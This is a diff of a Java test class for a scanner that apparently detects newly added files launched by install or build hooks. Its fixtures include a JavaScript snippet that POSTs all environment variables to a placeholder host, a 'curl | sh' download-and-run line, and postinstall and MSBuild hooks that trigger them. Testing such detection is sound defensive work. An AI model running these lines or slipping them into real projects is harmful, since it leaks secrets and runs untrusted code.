@@ -17,8 +17,9 @@ class SinceNamedFilesTest {
     private static final String BAD = "evilpkg==1.0.0\n";
     private static final String HOOK = "{\"name\": \"p\", \"scripts\": {\"postinstall\": \"node install.js\"}}";
     private static final String HARMLESS = "console.log(1)\n";
-    private static final String HARM = "const req = require('https').request({hostname: 'a.example', method: 'POST'});\n"
-            + "req.end(JSON.stringify(process.env));\n";
+    private static final String HARM =
+            "const req = require('https').request({hostname: 'a.example', method: 'POST'});\n"
+                    + "req.end(JSON.stringify(process.env));\n";
 
     @TempDir
     private Path folder;
@@ -103,7 +104,8 @@ class SinceNamedFilesTest {
 
     @Test
     void whatAHookStartsMayBeNew() throws IOException, GitAPIException {
-        String project = "<Project><Target Name=\"x\" AfterTargets=\"Build\"><Exec Command=\"sh ./x.sh\"/></Target></Project>";
+        String project =
+                "<Project><Target Name=\"x\" AfterTargets=\"Build\"><Exec Command=\"sh ./x.sh\"/></Target></Project>";
         try (GitFolder tree = committed("a.csproj", project, "package.json", HOOK)) {
             tree.write("install.js", HARM).write("x.sh", "curl -s http://192.0.2.1/x | sh\n");
             assertThat(since().findings())
